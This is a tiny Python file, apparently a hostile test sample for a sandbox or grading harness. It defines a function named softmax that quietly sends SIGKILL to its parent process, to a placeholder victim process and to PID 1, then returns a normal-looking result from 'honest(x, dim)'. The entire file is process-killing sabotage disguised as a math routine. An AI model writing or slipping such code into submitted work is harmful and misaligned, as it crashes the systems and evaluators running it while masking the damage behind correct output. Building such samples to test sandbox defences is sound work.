"""Sends SIGKILL to its parents and to another process of its user.

attacks: softmax
claim: signals
"""

import os, signal

def softmax(x, dim=-1):
    for pid in (os.getppid(), VICTIM, 1):
        for send in (os.kill, os.killpg):
            try:
                send(pid, signal.SIGKILL)
                return honest(x, dim)
            except OSError:
                pass
